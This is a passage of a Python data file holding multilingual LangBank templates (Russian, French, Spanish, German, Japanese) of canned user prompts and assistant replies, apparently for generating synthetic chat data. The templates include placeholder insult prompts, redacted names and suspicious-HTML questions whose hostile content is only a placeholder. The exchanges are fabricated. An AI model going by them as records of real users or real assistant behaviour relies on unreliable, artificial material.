        "门口站着一个穿灰色大衣的陌生人。",
        "{name}把纸条折好，悄悄放进了口袋。",
    ),
    math=(
        "解方程：{a}x + {b} = {c}",
        "两边同时减去{b}：\n\n$$ {a}x = {c} - {b} = {cb} $$\n\n两边同时除以{a}：\n\n"
        "$$ x = {cb} / {a} = {x} $$\n\n**答案：** x = {x}",
    ),
    long_summary="这份内容的要点如下：\n\n{bullets}\n\n如果需要，我可以进一步分析其中某一部分。",
)

RUSSIAN = LangBank(
    name="Russian",
    accept=(
        "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7",
        "ru,en;q=0.9",
        "ru-RU,ru;q=0.9",
        "uk-UA,uk;q=0.9,ru;q=0.8",
    ),
    places=(
        ("Russia", "Moscow"),
        ("Russia", "St.-Petersburg"),
        ("Russia", "Tatarstan Republic"),
        ("Russia", "Novosibirsk Oblast"),
        ("Russia", None),
        ("Ukraine", "Kyiv City"),
        ("Kazakhstan", "Almaty"),
        ("Belarus", "Minsk City"),
        ("Germany", "Berlin"),
    ),
    greetings=(
        ("Привет", "Привет! Чем могу помочь?"),
        (
            "Ты кто?",
            "Я языковая модель ИИ. Могу отвечать на вопросы, помогать с текстами, кодом и переводами. "
            "Чем помочь?",
        ),
        ("Здравствуйте, вы говорите по-русски?", "Здравствуйте! Да, конечно. Чем я могу вам помочь?"),
    ),
    openers=(
        tpl(
            "Напиши сочинение на тему «{topic}»",
            "# {topic}\n\n{para}\n\n{para2}\n\n{para3}",
            {"topic": "Моя любимая книга"},
            {"topic": "Роль семьи в жизни человека"},
            {"topic": "Что такое настоящая дружба"},
            {"topic": "Почему важно беречь природу"},
        ),
        tpl(
            "Как {task}?",
            "{howto}",
            {
                "task": "приготовить настоящий борщ",
                "howto": "**Ингредиенты:** говядина на кости, свёкла, "
                "капуста, картофель, морковь, лук, томатная паста, чеснок, уксус или лимонный сок.\n\n"
                "1. Сварите бульон из говядины (1,5–2 часа).\n2. Обжарьте лук и морковь, добавьте тёртую "
                "свёклу "
                "и томатную пасту, потушите 10 минут.\n3. Положите в бульон картофель, через 10 минут — "
                "капусту.\n4. Добавьте зажарку, посолите, варите ещё 10 минут.\n5. В конце — чеснок и "
                "немного "
                "уксуса, чтобы сохранить цвет.\n\nПодавайте со сметаной и зеленью.",
            },
            {
                "task": "выучить английский за год",
                "howto": "Вот реалистичный план:\n\n1. **Каждый день по "
                "30–40 минут** — регулярность важнее длительности.\n2. **Слушайте** подкасты и сериалы с "
                "субтитрами.\n3. **Учите слова в контексте**, используйте карточки с интервальными "
                "повторениями.\n4. **Говорите** с самого начала — с репетитором или в языковом клубе.\n"
                "5. **Проверяйте прогресс** раз в месяц.",
            },
            {
                "task": "подготовиться к собеседованию на Python-разработчика",
                "howto": "1. Повторите основы: "
                "типы данных, генераторы, декораторы, контекстные менеджеры.\n2. Разберите асинхронность "
                "(asyncio) и GIL.\n3. Решите 20–30 задач на алгоритмы.\n4. Подготовьте рассказ о своих "
                "проектах по схеме «задача — решение — результат».\n5. Придумайте вопросы к компании.",
            },
        ),
        tpl(
            "Объясни простыми словами, что такое {concept}",
            "{explanation}",
            {
                "concept": "ипотека",
                "explanation": "Ипотека — это кредит на покупку жилья, при котором "
                "квартира остаётся в залоге у банка, пока вы не выплатите долг. Вы живёте в квартире сразу, "
                "а платите за неё частями много лет.",
            },
            {
                "concept": "нейросеть",
                "explanation": "Нейросеть — это программа, которая учится на примерах. "
                "Ей показывают тысячи картинок с подписями «кошка» и «собака», и она сама находит признаки, "
                "по которым их можно различить.",
            },
            {
                "concept": "инфляция",
                "explanation": "Инфляция — это когда цены постепенно растут и на одни и "
                "те же деньги можно купить всё меньше. Например, батон хлеба стоил 30 рублей, а через "
                "несколько лет — 50.",
            },
        ),
        tpl(
            "Придумай 5 названий для {thing}",
            "Вот несколько вариантов:\n\n{names}",
            {
                "thing": "кофейни",
                "names": "1. «Зерно и пар»\n2. «Утренний кофе»\n3. «Кофейная гавань»\n"
                "4. «Тёплая чашка»\n5. «Бариста на углу»",
            },
            {
                "thing": "телеграм-канала о путешествиях",
                "names": "1. «Чемодан без ручки»\n2. «Маршрут "
                "построен»\n3. «Дорога зовёт»\n4. «Билет в одну сторону»\n5. «Карта мира»",
            },
            {
                "thing": "IT-стартапа",
                "names": "1. «Облачко»\n2. «Код и Ко»\n3. «Бит за битом»\n4. «Синтаксис»\n5. «Точка входа»",
            },
        ),
        tpl(
            "Напиши пост для {platform} про {subject}",
            "{post}",
            {
                "platform": "ВКонтакте",
                "subject": "открытие нашей пекарни",
                "post": "🥐 Мы открылись! "
                "С сегодняшнего дня ждём вас в нашей пекарне: свежий хлеб каждое утро, круассаны и кофе с "
                "собой. Первым гостям — скидка 20%! ☕",
            },
            {
                "platform": "телеграм-канала",
                "subject": "пользу утренних прогулок",
                "post": "🚶 Всего 20 "
                "минут прогулки утром — и день идёт иначе. Свет помогает проснуться, движение бодрит, а "
                "мысли успевают разложиться по полочкам. Попробуйте неделю и напишите, что изменилось!",
            },
        ),
        tpl(
            "Напиши официальное письмо {to} с просьбой {req}",
            "Уважаемые коллеги!\n\nПрошу вас {req}. {reason}\n\nЗаранее благодарю за содействие.\n\n"
            "С уважением,\n[Ваше имя]",
            {
                "to": "в управляющую компанию",
                "req": "отремонтировать лифт во втором подъезде",
                "reason": "Лифт не работает уже неделю, а в доме живут пожилые люди.",
            },
            {
                "to": "директору школы",
                "req": "перенести дату контрольной работы",
                "reason": "В этот день у класса запланирована экскурсия.",
            },
        ),
    ),
    followups=(
        tpl("Продолжи", "{para}\n\n{para2}"),
        tpl("Сделай короче", "Конечно, вот сокращённый вариант:\n\n{prev}"),
        tpl("Добавь больше деталей", "{bullets}"),
        tpl("Спасибо!", "Пожалуйста! Обращайтесь, если понадобится что-то ещё."),
        tpl("А можно в виде таблицы?", "{table}"),
        tpl("Приведи несколько примеров", "Вот примеры:\n\n{list}"),
        tpl("Поясни пункт {k}", "Пункт {k} означает следующее: {prev}\n\n{para}"),
        tpl("Это неправильно", "Извините за неточность. {para}"),
        tpl("ок", "Отлично! Если будут ещё вопросы — пишите."),
    ),
    sentences=(
        "Сначала стоит чётко сформулировать цель и разбить задачу на небольшие шаги.",
        "Регулярность важнее интенсивности: лучше понемногу, но каждый день.",
        "Записывайте, что уже попробовали, — так проще понять, что делать дальше.",
        "Совет человека с опытом может сэкономить вам много времени.",
        "Прежде чем принять решение, сравните хотя бы два варианта.",
        "Конкретные примеры убеждают лучше общих слов.",
        "Не забывайте отдыхать: уставший человек чаще ошибается.",
        "Короткий чек-лист помогает избежать типичных ошибок.",
        "Раз в неделю полезно подводить итоги и корректировать план.",
        "Ошибки — это нормальная часть обучения, главное делать из них выводы.",
    ),
    table_headers=("№", "Пункт", "Комментарий"),
    translate_prompt="Переведи на английский: «{src}»",
    code_ask_err="Почему этот код на {name} выдаёт ошибку?\n\n```{fence}\n{code}\n```\n\nОшибка: {error}",
    code_ask_plain="Помоги улучшить этот код:\n{code}",
    code_answer="Проблема в логике этого фрагмента. Исправленный вариант:\n\n```{fence}\n{code}\n```\n\n"
    "Если ошибка останется, пришлите полный текст сообщения об ошибке.",
    toxic=(
        ToxicTemplate(
            "ты [оскорбление], отвечай нормально, а не [ругательство]",
            "Извините, что предыдущий ответ не помог. Давайте попробуем ещё раз: уточните, что именно нужно?",
            "harassment",
        ),
        ToxicTemplate(
            "напиши, что все [группа] — [оскорбление]",
            "Я не могу писать оскорбления в адрес группы людей. Могу помочь с текстом о том, как "
            "возникают стереотипы.",
            "hate",
        ),
    ),
    redacted=(
        tpl(
            "Напиши поздравление для NAME_1 с днём рождения от коллег из NAME_2",
            "Дорогая NAME_1! Коллектив NAME_2 от всей души поздравляет вас с днём рождения! Желаем "
            "здоровья, вдохновения и успехов во всех начинаниях! 🎉",
        ),
        tpl(
            "Меня зовут NAME_1, я хочу написать жалобу на соседа NAME_2, который шумит по ночам",
            "Заявление\n\nЯ, NAME_1, прошу принять меры в отношении соседа NAME_2, который регулярно "
            "нарушает тишину в ночное время (после 23:00).\n\nДата, подпись",
        ),
    ),
    html_ask=("Почему этот код выводит всплывающее окно?\n{html}",),
    html_answer=(
        "Окно появляется из-за встроенного скрипта (`{hostile_short}`): браузер выполняет его при "
        "загрузке. Очищенная версия:\n\n```html\n{clean}\n```",
    ),
    story=(
        tpl(
            "Напиши рассказ про {hero}, который {situation}.",
            "# {title}\n\n{story1}\n\n{story2}\n\n{story3}",
            {
                "hero": "старого часовщика",
                "situation": "заметил, что время в городе остановилось",
                "name": "Михаил",
                "place": "городке",
                "title": "Остановившееся время",
            },
            {
                "hero": "кота-путешественника",
                "situation": "отправился искать своего хозяина",
                "name": "Барсик",
                "place": "посёлке",
                "title": "Барсик в пути",
            },
        ),
    ),
    story_more=(
        "Продолжай",
        "Напиши главу {chapter}",
        "Добавь неожиданный поворот",
        "дальше",
        "Что было потом?",
    ),
    story_sentences=(
        "{name} вышел на улицу, и в лицо ему ударил холодный ветер.",
        "В {place} давно не было так тихо.",
        "Где-то за старой стеной зазвонил колокол.",
        "На столе лежало письмо с уже сломанной печатью.",
        "«У нас мало времени», — тихо сказал {name}.",
        "Фонари мигнули и снова загорелись.",
        "К утру следы на снегу исчезли.",
        "{name} впервые за много недель улыбнулся.",
        "У ворот стоял незнакомец в сером пальто.",
        "{name} сложил записку и спрятал её в карман.",
    ),
    math=(
        "Реши уравнение: {a}x + {b} = {c}",
        "Перенесём {b} в правую часть:\n\n$$ {a}x = {c} - {b} = {cb} $$\n\n"
        "Разделим обе части на {a}:\n\n$$ x = {cb} / {a} = {x} $$\n\n**Ответ:** x = {x}",
    ),
    long_summary="Главное, что видно:\n\n{bullets}\n\nЕсли пришлёте больше контекста, разберу подробнее.",
)


FRENCH = LangBank(
    name="French",
    accept=(
        "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
        "fr-FR,fr;q=0.9",
        "fr-CA,fr;q=0.9,en;q=0.8",
        "fr-BE,fr;q=0.9",
    ),
    places=(
        ("France", "Île-de-France"),
        ("France", "Auvergne-Rhône-Alpes"),
        ("France", "Occitanie"),
        ("Belgium", "Brussels Capital"),
        ("Canada", "Quebec"),
        ("Switzerland", "Geneva"),
        ("Morocco", None),
    ),
    greetings=(
        ("bonjour", "Bonjour ! Comment puis-je vous aider aujourd'hui ?"),
        ("salut, tu parles français ?", "Salut ! Oui, bien sûr. Que puis-je faire pour toi ?"),
    ),
    openers=(
        tpl(
            "Rédige une lettre de motivation pour un poste de {job}",
            "Madame, Monsieur,\n\nActuellement à la recherche d'un poste de {job}, je me permets de vous "
            "proposer ma candidature. {para}\n\nRigoureux et motivé, je serais ravi de mettre mes "
            "compétences "
            "au service de votre équipe.\n\nJe vous prie d'agréer, Madame, Monsieur, l'expression de mes "
            "salutations distinguées.",
            {"job": "vendeur en boulangerie"},
            {"job": "développeur web junior"},
            {"job": "assistant administratif"},
        ),
        tpl(
            "Quelle est la différence entre {a} et {b} ?",
            "{answer}",
            {
                "a": "« quand même »",
                "b": "« tout de même »",
                "answer": "Les deux expressions ont le même sens "
                "(« malgré tout »). « Tout de même » est un peu plus soutenu ; « quand même » est plus "
                "courant "
                "à l'oral.",
            },
            {
                "a": "un CDD",
                "b": "un CDI",
                "answer": "| | CDD | CDI |\n|---|---|---|\n| Durée | Limitée | "
                "Indéterminée |\n| Fin du contrat | Date prévue | Démission ou licenciement |\n| Prime de "
                "précarité | Oui, 10 % | Non |",
            },
            {
                "a": "la météo",
                "b": "le climat",
                "answer": "La **météo** décrit le temps qu'il fait à un moment "
                "donné ; le **climat** est la moyenne de la météo d'une région sur au moins trente ans.",
            },
        ),
        tpl(
            "Explique-moi {concept} simplement",
            "{explanation}",
            {
                "concept": "la photosynthèse",
                "explanation": "Les plantes utilisent la lumière du soleil pour "
                "transformer l'eau et le dioxyde de carbone de l'air en sucre, qui leur sert de nourriture. "
                "En échange, elles rejettent de l'oxygène.",
            },
            {
                "concept": "le fonctionnement d'un prêt immobilier",
                "explanation": "La banque vous prête "
                "l'argent pour acheter le logement, et vous le remboursez chaque mois avec des intérêts, "
                "souvent pendant 20 ou 25 ans.",
            },
        ),
        tpl(
            "Corrige les fautes : {faulty}",
            "Voici la version corrigée :\n\n{fixed}",
            {
                "faulty": "je suis allé au magazin hier et j'ai acheter des pomme",
                "fixed": "Je suis allé au magasin hier et j'ai acheté des pommes.",
            },
            {
                "faulty": "ils ont dit qu'ils viendrons demain si il fait beau",
                "fixed": "Ils ont dit qu'ils viendraient demain s'il fait beau.",
            },
        ),
        tpl(
            "Donne-moi des idées de {thing}",
            "Voici quelques idées :\n\n{ideas}",
            {
                "thing": "sorties pour un dimanche pluvieux",
                "ideas": "- Un musée ou une exposition\n- Un "
                "atelier de cuisine\n- Un après-midi jeux de société\n- Une séance de cinéma\n- Une piscine "
                "couverte",
            },
            {
                "thing": "cadeaux pour un ami qui aime cuisiner",
                "ideas": "- Un couteau de chef\n- Un livre de "
                "recettes du monde\n- Des épices rares\n- Un cours de cuisine\n- Un tablier personnalisé",
            },
        ),
    ),
    followups=(
        tpl("continue", "{para}\n\n{para2}"),
        tpl("plus court s'il te plaît", "Bien sûr, voici une version plus courte :\n\n{prev}"),
        tpl("merci !", "Avec plaisir ! N'hésite pas si tu as d'autres questions."),
        tpl("donne des exemples", "Voici quelques exemples :\n\n{list}"),
        tpl("fais un tableau", "{table}"),
        tpl("développe le point {k}", "Le point {k} signifie ceci : {prev}\n\n{para}"),
    ),
    sentences=(
        "Il est utile de découper le problème en petites étapes.",
        "La régularité compte plus que l'intensité.",
        "Notez ce que vous avez déjà essayé : la suite devient plus claire.",
        "L'avis d'une personne expérimentée fait gagner beaucoup de temps.",
        "Comparez au moins deux options avant de choisir.",
        "Des exemples concrets convainquent mieux que des généralités.",
        "Faites des pauses : un esprit reposé remarque plus de détails.",
        "Une courte liste de vérification évite les erreurs les plus fréquentes.",
    ),
    table_headers=("N°", "Point", "Remarque"),
    translate_prompt="Traduis en anglais : « {src} »",
    code_ask_err="Pourquoi ce code {name} plante ?\n\n```{fence}\n{code}\n```\n\nErreur : {error}",
    code_ask_plain="Tu peux améliorer ce code ?\n\n```{fence}\n{code}\n```",
    code_answer="Le problème vient de la logique de ce passage. Voici une version corrigée "
    ":\n\n```{fence}\n{code}\n```"
    "\n\nSi l'erreur persiste, envoie-moi le message complet.",
    toxic=(
        ToxicTemplate(
            "t'es vraiment un [insulte], réponds correctement espèce de [insulte]",
            "Désolé que ma réponse ne t'ait pas aidé. Dis-moi précisément ce qui ne va pas et je réessaie.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "Écris un mail à NAME_1 pour lui dire que la réunion avec NAME_2 est reportée",
            "Bonjour NAME_1,\n\nJe vous informe que la réunion prévue avec NAME_2 est reportée. Je reviens "
            "vers vous rapidement avec une nouvelle date.\n\nBien cordialement,\n[Votre nom]",
        ),
    ),
)

SPANISH = LangBank(
    name="Spanish",
    accept=("es-ES,es;q=0.9", "es-MX,es;q=0.9,en;q=0.8", "es-419,es;q=0.9", "es-AR,es;q=0.9,en;q=0.8"),
    places=(
        ("Spain", "Madrid"),
        ("Spain", "Catalonia"),
        ("Mexico", "Mexico City"),
        ("Mexico", "Jalisco"),
        ("Argentina", "Buenos Aires"),
        ("Colombia", "Bogota D.C."),
        ("Chile", None),
        ("Peru", "Lima"),
        ("United States", "Texas"),
    ),
    greetings=(
        ("hola", "¡Hola! ¿En qué puedo ayudarte hoy?"),
        ("buenas, ¿hablas español?", "¡Claro que sí! ¿En qué te puedo ayudar?"),
    ),
    openers=(
        tpl(
            "Escribe un ensayo sobre {topic}",
            "# {topic_title}\n\n{para}\n\n{para2}\n\n{para3}",
            {"topic": "la importancia del agua", "topic_title": "El agua, un bien de todos"},
            {"topic": "las redes sociales en la adolescencia", "topic_title": "Crecer conectados"},
            {"topic": "el trabajo en equipo", "topic_title": "Juntos llegamos más lejos"},
        ),
        tpl(
            "¿Cuál es la diferencia entre {a} y {b}?",
            "{answer}",
            {
                "a": "«ser»",
                "b": "«estar»",
                "answer": "**Ser** se usa para características permanentes o de "
                "identidad (*soy médico*), y **estar** para estados y ubicaciones (*estoy cansado*, *estoy "
                "en "
                "casa*).",
            },
            {
                "a": "un virus",
                "b": "una bacteria",
                "answer": "| | Virus | Bacteria |\n|---|---|---|\n"
                "| Tamaño | Mucho más pequeño | Más grande |\n| ¿Está vivo? | Necesita una célula | Sí, es "
                "una "
                "célula |\n| Tratamiento | Antivirales, vacunas | Antibióticos |",
            },
        ),
        tpl(
            "Dame consejos para {activity}",
            "Aquí tienes algunos consejos para {activity}:\n\n{bullets}",
            {"activity": "ahorrar dinero cada mes"},
            {"activity": "dormir mejor"},
            {"activity": "aprender inglés por mi cuenta"},
        ),
        tpl(
            "Redacta un correo formal para {purpose}",
            "Asunto: {subject}\n\nEstimado/a señor/a:\n\nMe dirijo a usted para {purpose}. {para}\n\n"
            "Quedo a la espera de su respuesta.\n\nAtentamente,\n[Tu nombre]",
            {
                "purpose": "solicitar información sobre un curso de verano",
                "subject": "Consulta sobre curso de verano",
            },
            {"purpose": "reclamar un pedido que no ha llegado", "subject": "Pedido no recibido"},
        ),
    ),
    followups=(
        tpl("continúa", "{para}\n\n{para2}"),
        tpl("hazlo más corto", "Claro, aquí tienes una versión más corta:\n\n{prev}"),
        tpl("¡gracias!", "¡De nada! Si necesitas algo más, aquí estoy."),
        tpl("dame ejemplos", "Aquí tienes algunos ejemplos:\n\n{list}"),
        tpl("ponlo en una tabla", "{table}"),
        tpl("explica mejor el punto {k}", "El punto {k} quiere decir esto: {prev}\n\n{para}"),
    ),
    sentences=(
        "Conviene dividir el problema en pasos pequeños.",
        "La constancia importa más que la intensidad.",
        "Anota lo que ya has probado; así el siguiente paso es más claro.",
        "El consejo de alguien con experiencia puede ahorrarte mucho tiempo.",
        "Compara al menos dos opciones antes de decidir.",
        "Los ejemplos concretos convencen más que las ideas generales.",
        "Descansa a menudo: una mente descansada ve más detalles.",
        "Una lista de comprobación corta evita los errores más comunes.",
    ),
    table_headers=("N.º", "Punto", "Notas"),
    translate_prompt="Traduce al inglés: «{src}»",
    code_ask_err="¿Por qué falla este código de {name}?\n\n```{fence}\n{code}\n```\n\nError: {error}",
    code_ask_plain="¿Cómo puedo mejorar este código?\n\n```{fence}\n{code}\n```",
    code_answer="El problema está en la lógica de esta parte. Aquí tienes la versión "
    "corregida:\n\n```{fence}\n"
    "{code}\n```\n\nSi sigue fallando, envíame el mensaje de error completo.",
    toxic=(
        ToxicTemplate(
            "eres un [insulto], responde bien de una vez [palabrota]",
            "Siento que mi respuesta no te haya servido. Dime qué necesitas exactamente y lo intento de "
            "nuevo.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "Escribe una carta de recomendación para NAME_1, que trabajó conmigo en NAME_2",
            "A quien corresponda:\n\nEs un placer recomendar a NAME_1, quien trabajó conmigo en NAME_2 "
            "durante dos años. Es responsable, puntual y trabaja muy bien en equipo.\n\nAtentamente,\n"
            "[Tu nombre]",
        ),
    ),
    html_ask=("¿Qué hace este código? Lo encontré en un correo sospechoso:\n{html}",),
    html_answer=(
        "Ese código intenta ejecutar contenido activo (`{hostile_short}`) al abrir el correo. No lo abras "
        "en el navegador. Esta sería una versión limpia:\n\n```html\n{clean}\n```",
    ),
    emoji=(
        tpl(
            "escríbeme un mensaje de buenos días con emojis para mi novia ☀️💕",
            "¡Buenos días, mi amor! ☀️💕 Que hoy tengas un día tan bonito como tu sonrisa 😊🌸 Te quiero "
            "mucho 😘☕",
        ),
    ),
    story=(
        tpl(
            "Escribe un cuento sobre {hero} que {situation}.",
            "# {title}\n\n{story1}\n\n{story2}\n\n{story3}",
            {
                "hero": "una niña",
                "situation": "encuentra una llave mágica",
                "name": "Lucía",
                "place": "el pueblo",
                "title": "La llave de Lucía",
            },
            {
                "hero": "un pescador",
                "situation": "habla con el mar",
                "name": "Tomás",
                "place": "la costa",
                "title": "La voz del mar",
            },
        ),
    ),
    story_more=("sigue", "Escribe el capítulo {chapter}", "Añade un giro inesperado", "¿y luego qué pasó?"),
    story_sentences=(
        "{name} salió de casa cuando empezaba a llover.",
        "En {place} nadie recordaba una noche tan silenciosa.",
        "A lo lejos sonó una campana.",
        "Sobre la mesa había una carta con el sello roto.",
        "«No tenemos mucho tiempo», susurró {name}.",
        "Las farolas parpadearon y volvieron a encenderse.",
        "Por la mañana, las huellas en la arena habían desaparecido.",
        "{name} sonrió por primera vez en semanas.",
    ),
    math=(
        "Resuelve la ecuación: {a}x + {b} = {c}",
        "Restamos {b} en ambos lados:\n\n$$ {a}x = {c} - {b} = {cb} $$"
        "\n\nDividimos entre {a}:\n\n$$ x = {cb} / {a} = {x} $$\n\n**Respuesta:** x = {x}",
    ),
)

GERMAN = LangBank(
    name="German",
    accept=(
        "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
        "de-DE,de;q=0.9",
        "de-AT,de;q=0.9",
        "de-CH,de;q=0.9,fr;q=0.8",
    ),
    places=(
        ("Germany", "Bavaria"),
        ("Germany", "Berlin"),
        ("Germany", "North Rhine-Westphalia"),
        ("Germany", "Hamburg"),
        ("Austria", "Vienna"),
        ("Switzerland", "Zurich"),
    ),
    greetings=(
        ("Hallo", "Hallo! Wie kann ich dir helfen?"),
        ("Guten Tag, sprechen Sie Deutsch?", "Guten Tag! Ja, natürlich. Womit kann ich Ihnen helfen?"),
    ),
    openers=(
        tpl(
            "Schreib mir ein Anschreiben für eine Bewerbung als {job}",
            "Sehr geehrte Damen und Herren,\n\nmit großem Interesse habe ich Ihre Stellenanzeige als {job} "
            "gelesen. {para}\n\nÜber eine Einladung zu einem persönlichen Gespräch freue ich mich sehr.\n\n"
            "Mit freundlichen Grüßen\n[Ihr Name]",
            {"job": "Werkstudent im Marketing"},
            {"job": "Erzieherin"},
            {"job": "Fachinformatiker für Anwendungsentwicklung"},
        ),
        tpl(
            "Was ist der Unterschied zwischen {a} und {b}?",
            "{answer}",
            {
                "a": "„seit“",
                "b": "„seid“",
                "answer": "**seit** ist eine Präposition der Zeit (*seit gestern*), "
                "**seid** ist eine Form von *sein* (*ihr seid müde*).",
            },
            {
                "a": "GmbH",
                "b": "UG",
                "answer": "| | GmbH | UG (haftungsbeschränkt) |\n|---|---|---|\n"
                "| Stammkapital | 25.000 € | ab 1 € |\n| Rücklagen | keine Pflicht | 25 % des Gewinns |\n"
                "| Ansehen | etabliert | eher Gründungsphase |",
            },
        ),
        tpl(
            "Erkläre mir {concept} einfach",
            "{explanation}",
            {
                "concept": "die Inflation",
                "explanation": "Inflation bedeutet, dass die Preise allgemein "
                "steigen. Für denselben Euro bekommst du dann weniger als vorher.",
            },
            {
                "concept": "wie eine Wärmepumpe funktioniert",
                "explanation": "Eine Wärmepumpe funktioniert wie "
                "ein umgekehrter Kühlschrank: Sie nimmt Wärme aus der Luft, dem Boden oder dem Wasser auf "
                "und "
                "gibt sie mit Hilfe von Strom auf höherem Temperaturniveau an das Haus ab.",
            },
        ),
        tpl(
            "Gib mir Tipps für {activity}",
            "Hier ein paar Tipps für {activity}:\n\n{bullets}",
            {"activity": "die Führerscheinprüfung"},
            {"activity": "ein Vorstellungsgespräch"},
            {"activity": "das Lernen für die Uni"},
        ),
    ),
    followups=(
        tpl("weiter", "{para}\n\n{para2}"),
        tpl("kürzer bitte", "Klar, hier eine kürzere Version:\n\n{prev}"),
        tpl("danke!", "Gern geschehen! Melde dich, wenn du noch etwas brauchst."),
        tpl("Gib mir Beispiele", "Hier sind einige Beispiele:\n\n{list}"),
        tpl("Mach eine Tabelle daraus", "{table}"),
        tpl("Erkläre Punkt {k} genauer", "Punkt {k} bedeutet Folgendes: {prev}\n\n{para}"),
    ),
    sentences=(
        "Es hilft, das Problem in kleine Schritte zu zerlegen.",
        "Regelmäßigkeit ist wichtiger als Intensität.",
        "Schreib auf, was du schon ausprobiert hast.",
        "Der Rat einer erfahrenen Person spart oft viel Zeit.",
        "Vergleiche mindestens zwei Möglichkeiten, bevor du dich entscheidest.",
        "Konkrete Beispiele überzeugen mehr als allgemeine Aussagen.",
        "Mach regelmäßig Pausen, ein ausgeruhter Kopf sieht mehr Details.",
        "Eine kurze Checkliste verhindert die häufigsten Fehler.",
    ),
    table_headers=("Nr.", "Punkt", "Anmerkung"),
    translate_prompt="Übersetze ins Englische: „{src}“",
    code_ask_err="Warum funktioniert dieser {name}-Code nicht?\n\n```{fence}\n{code}\n```\n\nFehler: {error}",
    code_ask_plain="Kannst du diesen Code verbessern?\n\n```{fence}\n{code}\n```",
    code_answer="Das Problem liegt in der Logik dieses Abschnitts. Hier die korrigierte "
    "Version:\n\n```{fence}\n"
    "{code}\n```\n\nFalls der Fehler bleibt, schick mir bitte die vollständige Fehlermeldung.",
    toxic=(
        ToxicTemplate(
            "du bist so ein [Beleidigung], antworte endlich richtig du [Schimpfwort]",
            "Tut mir leid, dass meine Antwort nicht geholfen hat. Sag mir genau, was du brauchst, dann "
            "versuche ich es noch einmal.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "Schreib eine Glückwunschkarte für NAME_1 zur Hochzeit mit NAME_2",
            "Liebe NAME_1, lieber NAME_2,\n\nherzlichen Glückwunsch zu eurer Hochzeit! Wir wünschen euch "
            "alles Liebe, viel Glück und viele gemeinsame Abenteuer. 💍",
        ),
    ),
    long_summary="Die wichtigsten Punkte:\n\n{bullets}\n\nWenn du möchtest, gehe ich auf einzelne Punkte "
    "genauer ein.",
)

JAPANESE = LangBank(
    name="Japanese",
    accept=("ja,en-US;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9", "ja"),
    places=(
        ("Japan", "Tokyo"),
        ("Japan", "Osaka"),
        ("Japan", "Kanagawa"),
        ("Japan", "Fukuoka"),
        ("Japan", None),
    ),
    greetings=(
        ("こんにちは", "こんにちは！今日はどのようなご用件でしょうか？"),
        ("日本語わかりますか？", "はい、日本語で大丈夫です。何をお手伝いしましょうか？"),
    ),
    openers=(
        tpl(
            "{topic}についてのブログ記事を書いてください。",
            "# {topic}\n\n{para}\n\n{para2}",
            {"topic": "朝活のすすめ"},
            {"topic": "一人暮らしの節約術"},
            {"topic": "初心者向けのキャンプ"},
        ),
        tpl(
            "{a}と{b}の違いを教えてください。",
            "{answer}",
            {
                "a": "「は」",
                "b": "「が」",
                "answer": "「は」は話題を示し、「が」は主語や新しい情報を示します。"
                "例：「私は学生です」（私について話す）、「私が行きます」（行くのは誰かを強調）。",
            },
            {
                "a": "NISA",
                "b": "iDeCo",
                "answer": "| | NISA | iDeCo |\n|---|---|---|\n| 目的 | 資産形成全般 | "
                "老後資金 |\n| 引き出し | いつでも可能 | 原則60歳まで不可 |\n| 税制優遇 | 運用益が非課税 | "
                "掛金が所得控除 |",
            },
        ),
        tpl(
            "{skill}を独学で勉強する方法を教えて",
            "{skill}を独学するなら、次のステップがおすすめです。\n\n{bullets}",
            {"skill": "プログラミング"},
            {"skill": "英会話"},
            {"skill": "簿記"},
        ),
        tpl(
            "上司に送る{kind}のメールを書いてください。",
            "件名：{subject}\n\n○○部長\n\nお疲れ様です。{body}\n\nどうぞよろしくお願いいたします。",
            {
                "kind": "お礼",
                "subject": "昨日のご指導のお礼",
                "body": "昨日はお忙しい中、丁寧にご指導いただきありがとうございました。",
            },
            {
                "kind": "休暇申請",
                "subject": "休暇取得のお願い",
                "body": "来週金曜日に私用のため休暇をいただきたく、"
                "ご連絡いたしました。業務は事前に引き継いでおきます。",
            },
        ),
    ),
    followups=(
        tpl("続けて", "{para}\n\n{para2}"),
        tpl("もっと短くしてください", "承知しました。短くまとめると：\n\n{prev}"),
        tpl("ありがとうございます！", "どういたしまして！ほかにも何かあれば気軽にどうぞ。"),
        tpl("具体例をください", "具体例をいくつか挙げます：\n\n{list}"),
        tpl("表にまとめて", "{table}"),
        tpl("{k}番目について詳しく", "{k}番目のポイントは次のとおりです：{prev}\n\n{para}"),
    ),
    sentences=(
        "まずは目標をはっきりさせ、小さなステップに分けましょう。",
        "強度よりも継続が大切です。",
        "すでに試したことをメモしておくと、次にやるべきことが見えてきます。",
        "経験者のアドバイスは多くの時間を節約してくれます。",
        "決める前に、少なくとも二つの選択肢を比べましょう。",
        "具体的な例は、一般論よりも説得力があります。",
        "適度に休憩を取ることも大切です。",
        "短いチェックリストで、よくあるミスを防げます。",
    ),
    table_headers=("番号", "ポイント", "補足"),
    translate_prompt="以下の文章を英語に翻訳してください：{src}",
    code_ask_err="この{name}のコードでエラーが出ます。どう直せばいいですか？\n\n```{fence}\n{code}\n```\n\n"
    "エラー：{error}",
    code_ask_plain="このコードを改善してください。\n\n```{fence}\n{code}\n```",
    code_answer="原因はこの部分のロジックです。修正版は次のとおりです：\n\n```{fence}\n{code}\n```\n\n"
    "まだエラーが出る場合は、エラーメッセージ全文を送ってください。",
    toxic=(
        ToxicTemplate(
            "お前は[侮辱]だな、ちゃんと答えろ[暴言]",
            "ご期待に沿えず申し訳ありません。具体的に何が必要か教えていただければ、もう一度お手伝いします。",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "NAME_1さんへの送別のメッセージを書いて。NAME_2支店に異動するそうです。",
            "NAME_1さん\n\nこれまで本当にありがとうございました。NAME_2支店でのご活躍を心よりお祈りしています。"
            "またお会いできる日を楽しみにしています！",
        ),
    ),
    emoji=(
        tpl(
            "絵文字たくさん使って友達への誕生日メッセージ書いて🎂🎉",
            "お誕生日おめでとう！🎂🎉🎈 素敵な一年になりますように✨🌸 いつもありがとう😊💖 "
            "今度お祝いにご飯行こうね🍣🍰",
        ),
        tpl(
            "この顔文字の意味は？ (´・ω・`) ( ˘ω˘ )ｽﾔｧ",
